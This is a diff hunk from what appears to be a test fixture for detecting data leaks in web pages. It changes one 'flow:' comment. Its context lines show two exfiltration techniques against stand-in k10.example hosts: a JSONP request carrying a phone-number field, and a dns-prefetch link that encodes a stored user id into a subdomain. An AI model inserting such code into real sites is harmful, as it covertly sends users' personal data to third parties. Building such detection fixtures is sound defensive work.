@@ -190,7 +190,7 @@ function jsonp(u, params) {
 jsonp('//sjh.k10.example/check', { tel: document.querySelector('input[type=tel]').value, cb: 'done' });
 
 //# dns-prefetch-by-html
-// flow: identifier > ? via dns
+// flow: identifier > {}.x.dph.k10.example via dns
 document.head.insertAdjacentHTML('beforeend', '<link rel="dns-prefetch" href="//' + localStorage.getItem('uid') + '.x.dph.k10.example">');
 
 //# form-method-get-action-query-dropped
